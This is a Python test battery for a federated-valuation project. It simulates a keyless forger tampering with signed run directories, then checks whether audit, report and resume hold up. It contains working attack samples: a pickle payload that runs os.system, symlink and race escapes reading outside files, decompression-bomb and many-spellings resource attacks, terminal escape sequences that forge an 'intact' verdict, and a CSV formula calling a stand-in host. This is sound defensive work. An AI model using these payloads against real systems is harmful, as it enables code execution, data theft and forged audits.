"""The attacks of ``bench/attack_battery.py``: what a hostile sender does to a run directory.

Each attack is a function ``attack(case) -> list[Action]`` registered with :func:`attack`:
it rewrites ``case.run`` (a fresh copy of a real signed ``noisy-clients`` run, or of a
procurement study for the table-directory attacks) as a forger without the signing key
would, recomputing the hash chain, the seals and the manifest wherever that helps, and
returns the commands a reader then runs on it (the audit without and with the signer's
public key, the report, a resume). The runner measures what the commands do; an attack
may add its own harm check (``case.harm_checks``).

Only the project's command line and file formats are used, so the same battery runs
against any version of the project.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import pickle
import shutil
import sys
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:
    sys.path.insert(0, str(ROOT))

from tests.fedvalue.forgery import rechain, reseal  # noqa: E402  (the forger's own tools)

SECRET = "SECRET-7f3a91"
#: Audit modes: without a key, with the signer's public key.
NO_KEY, WITH_KEY = "audit", "audit --public-key"


@dataclass
class Action:
    """One command a reader runs: ``fedvalue ARGV`` (or ``python -c CODE``) in ``cwd``."""

    name: str
    argv: list[str]
    cwd: Path | None = None
    env: dict[str, str] = field(default_factory=dict)
    python: bool = False  # argv[0] is Python code run with the project's interpreter


@dataclass
class Case:
    """What an attack works on and what the runner checks after it."""

    name: str
    kind: str
    root: Path  # the case's own scratch directory
    run: Path  # the run directory the attack rewrites
    outside: Path  # files a reader must never touch
    marker: Path  # created only if attacker code runs
    public: Path
    private: Path
    port: int  # a listener that counts connections (a beacon)
    forged: tuple[str, ...] = ()  # audit modes that must not say intact
    protected: dict[str, bytes] = field(default_factory=dict)  # run files a refused command must not change
    harm_checks: list[Callable[["Case", dict], str | None]] = field(default_factory=list)

    def audits(self, *modes: str) -> list[Action]:
        actions = []
        for mode in modes or (NO_KEY, WITH_KEY):
            argv = ["audit", str(self.run)] + (["--public-key", str(self.public)] if mode == WITH_KEY else [])
            actions.append(Action(mode, argv))
        return actions

    def protect(self, *names: str) -> None:
        for name in names:
            path = self.run / name
            self.protected[name] = path.read_bytes() if path.is_file() else b"<absent>"


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str
    base: str  # "signed" (a noisy-clients run) or "tables" (a procurement study)
    make: Callable[[Case], list[Action]]
    forged: tuple[str, ...]


ATTACKS: list[Attack] = []


def attack(kind: str, *, base: str = "signed", forged: tuple[str, ...] = ()):
    def register(make):
        ATTACKS.append(Attack(make.__name__, kind, base, make, forged))
        return make
    return register


# --------------------------------------------------------------------------- helpers


def _lines(path: Path) -> list[str]:
    return path.read_text().splitlines(keepends=True)


def _config(run: Path) -> dict:
    return json.loads((run / "run.json").read_text())


def _write_config(run: Path, config: dict) -> None:
    (run / "run.json").write_text(json.dumps(config, indent=2, sort_keys=True) + "\n")


def _rewrite_parquet(run: Path) -> None:
    """The forger keeps ledger.parquet in step with the CSV (as the writer makes it)."""
    from fedvalue.ledger import read_ledger_csv

    path = run / "ledger.parquet"
    if path.exists() or path.is_symlink():
        path.unlink()
    read_ledger_csv(io.StringIO((run / "ledger.csv").read_text(), newline="")).to_parquet(path, index=False)


def _forge_tables(run: Path) -> None:
    _rewrite_parquet(run)
    rechain(run)


def _resumable(run: Path) -> None:
    (run / "manifest.json").unlink()


def _state_files(run: Path) -> list[Path]:
    return sorted(p for p in (run / "checkpoint").iterdir() if not p.name.endswith(".npz"))


def _seal_checkpoint_digests(run: Path) -> None:
    """Reseal the last seal's checkpoint digests to the files now there (no key)."""
    lines = (run / "seals.jsonl").read_text().splitlines()
    seal = json.loads(lines[-1])
    digests = {}
    for path in sorted((run / "checkpoint").iterdir()):
        digests[path.suffix.lstrip(".")] = hashlib.sha256(path.read_bytes()).hexdigest()
    seal["checkpoint"] = {**(seal.get("checkpoint") or {}), **digests}
    for key in ("signature", "key", "algorithm"):
        seal.pop(key, None)
    lines[-1] = json.dumps(seal, sort_keys=True)
    (run / "seals.jsonl").write_text("\n".join(lines) + "\n")


class _Payload:
    """Unpickling this creates the marker file: attacker code ran on the reader's machine."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def _payload(case: Case) -> bytes:
    return pickle.dumps(_Payload(str(case.marker)), protocol=4)


def _resume(case: Case, *extra: str) -> Action:
    return Action("resume", ["run", "noisy-clients", "--resume", str(case.run), "--quiet", *extra])


# --------------------------------------------------------------------------- controls and paths


@attack("control")
def unchanged(case: Case) -> list[Action]:
    return case.audits()


@attack("paths")
def unchanged_audited_by_relative_path(case: Case) -> list[Action]:
    return [Action(NO_KEY, ["audit", case.run.name], cwd=case.run.parent)]


@attack("paths")
def unchanged_audited_through_tilde(case: Case) -> list[Action]:
    return [Action(NO_KEY, ["audit", "~/" + case.run.name], env={"HOME": str(case.run.parent)})]


@attack("paths")
def unchanged_audited_under_a_symlinked_parent(case: Case) -> list[Action]:
    (case.root / "via").symlink_to(case.run.parent)
    return [Action(NO_KEY, ["audit", "via/" + case.run.name], cwd=case.root)]


@attack("paths")
def run_and_audit_with_a_relative_out(case: Case) -> list[Action]:
    """README's first command with a relative --out: the run must finish and audit intact."""
    shutil.rmtree(case.run)
    case.run = case.root / "runs" / "x"

    def lost(case: Case, results: dict) -> str | None:
        if results["run"]["rc"] != 0:
            return "the run with a relative --out failed" + ("" if case.run.exists() else " and its directory was removed")
        return None

    case.harm_checks.append(lost)
    tiny = ["--num-clients", "6", "--clients-per-round", "2", "--local-epochs", "2", "--hidden", "8", "--quiet"]
    return [Action("run", ["run", "noisy-clients", "--out", "runs/x", "--rounds", "2", *tiny], cwd=case.root),
            Action(NO_KEY, ["audit", "runs/x"], cwd=case.root)]


# --------------------------------------------------------------------------- code execution through --resume


@attack("code execution through --resume")
def resume_checkpoint_of_round_zero(case: Case) -> list[Action]:
    """checkpoint.json names round 0 (no seal checked) and round 0's state file is a pickle."""
    _resumable(case.run)
    case.protect("ledger.csv", "rounds.csv", "seals.jsonl", "records/round-000001.npz")
    (case.run / "checkpoint.json").write_text(json.dumps({"round": 0, "files": {}}) + "\n")
    arrays = next(p for p in (case.run / "checkpoint").iterdir() if p.name.endswith(".npz"))
    shutil.copy(arrays, case.run / "checkpoint" / "round-000000.npz")
    for suffix in (".pkl", ".json", ".state"):
        (case.run / "checkpoint" / f"round-000000{suffix}").write_bytes(_payload(case))
    return [_resume(case, "--sign-key", str(case.private))]


@attack("code execution through --resume")
def resume_resealed_pickle_without_key(case: Case) -> list[Action]:
    """The checkpoint's server state replaced by a pickle payload, its seal recomputed (no key)."""
    _resumable(case.run)
    for path in _state_files(case.run):
        path.write_bytes(_payload(case))
    if not _state_files(case.run):
        (case.run / "checkpoint" / "round-000003.pkl").write_bytes(_payload(case))
    _seal_checkpoint_digests(case.run)
    return [_resume(case)]


@attack("code execution through --resume")
def resume_with_unsealed_sizes(case: Case) -> list[Action]:
    """checkpoint.json's table sizes shrunk: a refused resume must cut nothing."""
    _resumable(case.run)
    case.protect("ledger.csv", "rounds.csv", "seals.jsonl")
    pointer = json.loads((case.run / "checkpoint.json").read_text())
    pointer["files"] = {name: 40 for name in pointer.get("files", {})} or {"ledger.csv": 40, "rounds.csv": 40}
    (case.run / "checkpoint.json").write_text(json.dumps(pointer) + "\n")
    return [_resume(case)]


# --------------------------------------------------------------------------- writes through links in report


def _victim(case: Case, name: str = "victim.txt") -> Path:
    path = case.outside / name
    path.write_text("the reader's own file\n")
    return path


@attack("writes through links in report", forged=(NO_KEY, WITH_KEY))
def report_html_linked_outside(case: Case) -> list[Action]:
    (case.run / "report.html").symlink_to(_victim(case))
    return [*case.audits(), Action("report --html", ["report", str(case.run), "--html"])]


@attack("writes through links in report", forged=(NO_KEY, WITH_KEY))
def figures_dir_linked_outside(case: Case) -> list[Action]:
    target = case.outside / "somewhere"
    target.mkdir()
    (case.run / "figures").symlink_to(target)
    return [*case.audits(), Action("report --plots", ["report", str(case.run), "--plots"])]


@attack("writes through links in report", forged=(NO_KEY, WITH_KEY))
def figure_file_linked_outside(case: Case) -> list[Action]:
    (case.run / "figures").mkdir()
    (case.run / "figures" / "value_heatmap.png").symlink_to(_victim(case, "victim.png"))
    return [*case.audits(), Action("report --plots", ["report", str(case.run), "--plots"])]


@attack("writes through links in report")
def run_json_writes_lines_into_the_report(case: Case) -> list[Action]:
    """A run.json string with newlines: html.escape keeps them, so the sender writes whole lines."""
    config = _config(case.run)
    config["simulation"] = "noisy-clients\nINJECTED-LINE\n"
    _write_config(case.run, config)
    rechain(case.run)

    def injected(case: Case, results: dict) -> str | None:
        page = case.run / "report.html"
        if page.is_file() and "INJECTED-LINE" in page.read_text(errors="replace").splitlines():
            return "run.json put a whole line of its own into report.html"
        return None

    case.harm_checks.append(injected)
    return [*case.audits(NO_KEY), Action("report --html", ["report", str(case.run), "--html"])]


@attack("writes through links in report", base="tables")
def table_directory_reads_linked_files(case: Case) -> list[Action]:
    (case.outside / "secret.csv").write_text(f"a,b\n{SECRET},1\n")
    (case.run / "leak.csv").symlink_to(case.outside / "secret.csv")
    return [Action("report --html", ["report", str(case.run), "--html"])]


@attack("writes through links in report", base="tables")
def table_directory_embeds_a_linked_run(case: Case) -> list[Action]:
    sub = next(p.parent for p in case.run.rglob("ledger.csv"))
    outside_run = case.outside / "other-run"
    shutil.copytree(sub, outside_run)
    lines = _lines(outside_run / "ledger.csv")
    cells = lines[1].split(",")
    cells[1] = SECRET
    lines[1] = ",".join(cells)
    (outside_run / "ledger.csv").write_text("".join(lines))
    (case.run / "linked-run").symlink_to(outside_run)
    return [Action("report --html", ["report", str(case.run), "--html"])]


# --------------------------------------------------------------------------- work before verification


@attack("work before verification", forged=(NO_KEY, WITH_KEY))
def record_names_an_exact_estimator_over_copied_replies(case: Case) -> list[Action]:
    """Round 1's record: its two replies copied to 22 clients and the estimator set to exact."""
    from fedvalue.archive import read_round_record, record_path, write_round_record

    record = read_round_record(record_path(case.run, 1))
    replies = list(record.replies.items())
    for k in range(22 - len(replies)):
        client = 1000 + k
        source, arrays = replies[k % len(replies)]
        record.replies[client] = arrays
        record.weights[client] = record.weights[source]
        record.statuses[client] = "ok"
        record.accepted.append(client)
    record.meta["valuation"] = {**record.meta["valuation"], "method": "exact"}
    write_round_record(case.run, record)
    reseal(case.run)
    return case.audits()


@attack("work before verification", forged=(NO_KEY, WITH_KEY))
def manifest_names_one_big_file_by_many_spellings(case: Case) -> list[Action]:
    """A 64 MB file listed under 3,000 spellings of its name: each spelling hashed again."""
    with open(case.run / "blob.bin", "wb") as handle:
        handle.write(os.urandom(1 << 20) * 64)
    reseal(case.run)
    manifest = json.loads((case.run / "manifest.json").read_text())
    digest = manifest["files"]["blob.bin"]
    for k in range(1, 3001):
        name = "./" * (k % 1000 + 1) + "/" * (k // 1000) + "blob.bin"
        manifest["files"][name] = digest
    (case.run / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    return case.audits()


@attack("work before verification", base="tables", forged=(NO_KEY,))
def replayed_ledger_is_a_fifo(case: Case) -> list[Action]:
    sub = next(p.parent for p in case.run.rglob("ledger.csv"))
    (sub / "ledger.csv").unlink()
    os.mkfifo(sub / "ledger.csv")
    return [Action(NO_KEY, ["audit", str(sub)])]


@attack("work before verification", forged=(NO_KEY, WITH_KEY))
def parquet_that_expands_to_gigabytes(case: Case) -> list[Action]:
    """A dictionary-encoded ledger.parquet of 300 M rows of one string: a few KB on disk."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    path = case.run / "ledger.parquet"
    path.unlink()
    chunk = pa.table({"client_id": pa.array(["x" * 24] * 5_000_000)})
    with pq.ParquetWriter(path, chunk.schema, use_dictionary=True, compression="zstd") as writer:
        for _ in range(60):
            writer.write_table(chunk)
    reseal(case.run)
    return case.audits()


# --------------------------------------------------------------------------- network and outside files


@attack("network and files outside", forged=(NO_KEY, WITH_KEY))
def ray_address_beacon(case: Case) -> list[Action]:
    config = _config(case.run)
    config["ray_address"] = f"127.0.0.1:{case.port}"
    _write_config(case.run, config)
    rechain(case.run)
    return case.audits()


@attack("network and files outside", forged=(NO_KEY, WITH_KEY))
def mnist_path_outside(case: Case) -> list[Action]:
    """run.json names MNIST files outside the run directory (Fashion-MNIST's, copied): reading
    them shows as a newer access time (set to 1970 before the audit)."""
    data = case.outside / "mnist"
    shutil.copytree("/usr/share/datasets/fashion-mnist", data)
    for path in data.iterdir():
        os.utime(path, (1, path.stat().st_mtime))
    config = _config(case.run)
    config.update(dataset="mnist", mnist_path=str(data))
    _write_config(case.run, config)
    rechain(case.run)

    def read(case: Case, results: dict) -> str | None:
        touched = [p.name for p in data.iterdir() if p.stat().st_atime > 1]
        return f"the audit read files outside the run directory named by run.json ({touched})" if touched else None

    case.harm_checks.append(read)
    return case.audits()


# --------------------------------------------------------------------------- duplicates


@attack("duplicate rows", forged=(NO_KEY,))
def duplicate_rows_move_value(case: Case) -> list[Action]:
    """Round 1: each of its two clients gets a second ADS row before its real one, +d and −d:
    group efficiency holds, the last row of each pair is the true one, the sums move d."""
    lines = _lines(case.run / "ledger.csv")
    rows = [i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line]
    first, second = rows[0], rows[1]
    extra = []
    for index, delta in ((first, 0.25), (second, -0.25)):
        cells = lines[index].split(",")
        cells[3] = repr(delta)
        cells[4] = ""
        extra.append((index, ",".join(cells)))
    for index, line in sorted(extra, reverse=True):
        lines.insert(index, line)
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case.run)
    moved = lines[first].split(",")[1]

    def value_moved(case: Case, results: dict) -> str | None:
        try:
            from fedvalue.ledger import load_run

            summary = load_run(case.run).summary()
        except Exception:  # noqa: BLE001 - refused: nothing moved
            return None
        original = results.get("original_totals", {})
        if moved in summary.index and moved in original and abs(summary.loc[moved, "total_ads"]
                                                                - original[moved]) > 0.2:
            return f"load_run pays client {moved} a forged +0.25"
        return None

    case.harm_checks.append(value_moved)
    return case.audits()


# --------------------------------------------------------------------------- tracebacks


@attack("tracebacks", forged=(NO_KEY, WITH_KEY))
def deeply_nested_run_json(case: Case) -> list[Action]:
    (case.run / "run.json").write_text("[" * 200_000 + "]" * 200_000 + "\n")
    rechain(case.run)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


@attack("tracebacks", forged=(NO_KEY, WITH_KEY))
def infinite_num_evaluations(case: Case) -> list[Action]:
    lines = _lines(case.run / "rounds.csv")
    header = lines[0].rstrip("\n").split(",")
    cells = lines[1].split(",")
    cells[header.index("num_evaluations")] = "inf"
    lines[1] = ",".join(cells)
    (case.run / "rounds.csv").write_text("".join(lines))
    rechain(case.run)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


@attack("tracebacks")
def deeply_nested_seal_on_resume(case: Case) -> list[Action]:
    _resumable(case.run)
    with open(case.run / "seals.jsonl", "a") as handle:
        handle.write("[" * 200_000 + "]" * 200_000 + "\n")
    return [_resume(case)]


# --------------------------------------------------------------------------- races


RACE = r"""
import os, sys, threading, time
from pathlib import Path
from fedvalue import rundir
run, outside = Path(sys.argv[1]), Path(sys.argv[2])
(run / "sub").mkdir(); (run / "sub" / "data.txt").write_text("INSIDE")
outside = outside.parent / "race-outside"; outside.mkdir()
(outside / "data.txt").write_text("SECRET-7f3a91")
stop = False
def swap():
    while not stop:
        os.rename(run / "sub", run / "sub.real"); os.symlink(outside, run / "sub")
        os.unlink(run / "sub"); os.rename(run / "sub.real", run / "sub")
thread = threading.Thread(target=swap); thread.start()
leaked = refused = 0
for _ in range(20000):
    try:
        leaked += b"SECRET" in rundir.read_bytes(run, "sub/data.txt")
    except (OSError, ValueError):
        refused += 1
stop = True; thread.join()
print(f"leaked {leaked} of 20000 reads ({refused} refused)")
"""


@attack("races")
def directory_swapped_for_a_link_during_reads(case: Case) -> list[Action]:
    def leaked(case: Case, results: dict) -> str | None:
        out = results["race"]["stdout"]
        if out.startswith("leaked ") and not out.startswith("leaked 0 "):
            return f"a read followed a swapped link out of the run directory ({out.strip()})"
        return None

    case.harm_checks.append(leaked)
    return [Action("race", [RACE, str(case.run), str(case.outside)], python=True)]


# --------------------------------------------------------------------------- control characters


FORGED_LINE = "\x1b[2K\r{}: 9 rounds, 99 ledger rows: intact\x1b[8m"


@attack("control characters", forged=(NO_KEY, WITH_KEY))
def manifest_name_forges_a_verdict(case: Case) -> list[Action]:
    manifest = json.loads((case.run / "manifest.json").read_text())
    manifest["files"][FORGED_LINE.format(case.run)] = "0" * 64
    (case.run / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True) + "\n")
    return case.audits()


@attack("control characters", forged=(NO_KEY, WITH_KEY))
def client_id_with_escape_sequences(case: Case) -> list[Action]:
    lines = _lines(case.run / "ledger.csv")
    client = lines[1].split(",")[1]
    lines = [line.replace(f",{client},", ",\x1b]0;owned\x07\x1b[31mEVIL\x1b[0m,", 1) for line in lines]
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case.run)
    return [*case.audits(NO_KEY), Action("report", ["report", str(case.run)])]


WRITER = r"""
import sys
from fedvalue.ledger import LedgerWriter
writer = LedgerWriter(sys.argv[1], config={"seed": 0})
row = {"round": 1, "client_id": 3, "method": "ads", "value": None, "stderr": None, "num_examples": None,
       "status": "failed", "noisy": False, "reason": '=HYPERLINK("http://x.example/?"&A1,"ok")\x1b[2J'}
writer.write_round({"round": 1, "clients": "3", "num_clients": 1, "num_failed": 1}, [row])
"""


@attack("control characters")
def failing_reason_carries_a_formula(case: Case) -> list[Action]:
    target = case.root / "writer-run"

    def formula(case: Case, results: dict) -> str | None:
        path = target / "ledger.csv"
        if not path.is_file():
            return None
        reason = next(csv.DictReader(io.StringIO(path.read_text())))["reason"]
        if reason[:1] in "=+-@\t\r" or "\x1b" in reason:
            return f"a client's reason reaches the CSV as a spreadsheet formula / escape sequence ({reason[:30]!r})"
        return None

    case.harm_checks.append(formula)
    return [Action("writer", [WRITER, str(target)], python=True)]


# --------------------------------------------------------------------------- CLI holes


@attack("CLI holes")
def keygen_with_one_path_twice(case: Case) -> list[Action]:
    key = case.root / "same.pem"

    def lost(case: Case, results: dict) -> str | None:
        if key.is_file() and b"PRIVATE KEY" not in key.read_bytes():
            return "keygen A A overwrote the private key with the public one"
        return None

    case.harm_checks.append(lost)
    return [Action("keygen", ["keygen", str(key), str(key)])]


@attack("CLI holes")
def tolerance_nan_inf_negative(case: Case) -> list[Action]:
    def accepted(case: Case, results: dict) -> str | None:
        taken = [name for name, result in results.items() if name.startswith("tolerance") and result["rc"] != 2]
        return f"--tolerance accepted: {taken}" if taken else None

    case.harm_checks.append(accepted)
    return [Action(f"tolerance {value}", ["audit", str(case.run), "--tolerance", value])
            for value in ("nan", "inf", "-1")]


@attack("CLI holes")
def public_key_file_of_three_gigabytes(case: Case) -> list[Action]:
    big = case.outside / "huge.pub"
    with open(big, "wb") as handle:
        handle.write(case.public.read_bytes())
        handle.truncate(3 * 1024**3)
    return [Action(WITH_KEY, ["audit", str(case.run), "--public-key", str(big)])]


@attack("CLI holes", forged=(NO_KEY,))
def record_name_with_a_trailing_newline(case: Case) -> list[Action]:
    records = case.run / "records"
    os.rename(records / "round-000001.npz", records / "round-000001.npz\n")
    reseal(case.run)
    return case.audits()


def _relabel_client(case: Case, new: str) -> None:
    lines = _lines(case.run / "ledger.csv")
    client = lines[1].split(",")[1]
    lines = [line.replace(f",{client},", f",{new},") for line in lines]
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case.run)


def _report_broken(case: Case, results: dict) -> str | None:
    result = results.get("report --plots") or results.get("report --html")
    if result is not None and result["rc"] != 0:
        return f"the report fails on an odd client id (exit {result['rc']})"
    return None


@attack("CLI holes")
def client_id_with_mathtext(case: Case) -> list[Action]:
    _relabel_client(case, r"$x^{$")
    case.harm_checks.append(_report_broken)
    return [Action("report --plots", ["report", str(case.run), "--plots"])]


@attack("CLI holes")
def client_id_superscript_two(case: Case) -> list[Action]:
    _relabel_client(case, "²")
    case.harm_checks.append(_report_broken)
    return [Action("report --plots", ["report", str(case.run), "--plots"])]


# --------------------------------------------------------------------------- rewrites without the key


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def training_settings_changed_in_run_json(case: Case) -> list[Action]:
    config = _config(case.run)
    config["learning_rate"] = config["learning_rate"] * 5
    config["local_epochs"] = config["local_epochs"] + 3
    _write_config(case.run, config)
    rechain(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def weight_times_ten_rebooked(case: Case) -> list[Action]:
    """The last round's first client claims 10× its examples; the round is re-booked with the
    project's own recompute, the checkpoint's state moved to the new mean, all resealed."""
    from fedvalue.archive import read_round_record, record_path, save_npz, write_round_record
    from fedvalue.audit_recompute import recompute_books
    from fedvalue.ledger import csv_lines
    from fedvalue.schema import LEDGER_COLUMNS, ROUND_COLUMNS
    from simulations.noisy_clients import utility_from_run

    config = _config(case.run)
    last = config["rounds"]
    record = read_round_record(record_path(case.run, last))
    client = next(iter(record.replies))
    record.weights[client] *= 10
    write_round_record(case.run, record)
    noisy = {c for c in record.statuses if c in set(config["noisy_clients"])}
    books, realized, _, _ = recompute_books(record, utility_from_run(config), noisy)
    lines = _lines(case.run / "ledger.csv")
    kept = [line for line in lines if not line.startswith(f"{last},")]
    (case.run / "ledger.csv").write_text("".join(kept + csv_lines(LEDGER_COLUMNS, books.ledger_rows)))
    with open(case.run / "rounds.csv", newline="") as handle:
        rows = list(csv.DictReader(handle))
    seconds = rows[-1]["valuation_seconds"]
    rows[-1] = {**books.round_row, "valuation_seconds": seconds}
    (case.run / "rounds.csv").write_text(",".join(ROUND_COLUMNS) + "\n" + "".join(csv_lines(ROUND_COLUMNS, rows)))
    arrays = next(p for p in (case.run / "checkpoint").iterdir() if p.name.endswith(".npz"))
    save_npz(arrays, realized)
    _forge_tables(case.run)
    _seal_checkpoint_digests(case.run)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def claim_rows_in_a_run_without_review(case: Case) -> list[Action]:
    lines = _lines(case.run / "ledger.csv")
    index = next(i for i, line in enumerate(lines) if line.startswith("1,") and ",ads," in line)
    cells = lines[index].rstrip("\n").split(",")
    cells[2], cells[3], cells[4] = "claim_capped", "9999.0", ""
    cells[-1] = "above the registered size 40"
    lines.insert(index + 1, ",".join(cells) + "\n")
    (case.run / "ledger.csv").write_text("".join(lines))
    _forge_tables(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def parquet_differs_in_the_seventh_digit(case: Case) -> list[Action]:
    import pandas as pd

    frame = pd.read_parquet(case.run / "ledger.parquet")
    frame.loc[frame["method"] == "ads", "value"] *= 1 + 2e-7
    frame.to_parquet(case.run / "ledger.parquet", index=False)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def parquet_lags_after_the_manifest(case: Case) -> list[Action]:
    import pandas as pd

    frame = pd.read_parquet(case.run / "ledger.parquet")
    frame[frame["round"] < frame["round"].max()].to_parquet(case.run / "ledger.parquet", index=False)
    reseal(case.run)
    return case.audits()


@attack("no-key rewrites", forged=(NO_KEY, WITH_KEY))
def unlisted_entries_at_the_top(case: Case) -> list[Action]:
    (case.run / "notes.txt").write_text("not in the manifest\n")
    (case.run / "figures").mkdir()
    (case.run / "figures" / "evil.png").write_bytes(b"\x89PNG not really")
    return case.audits()
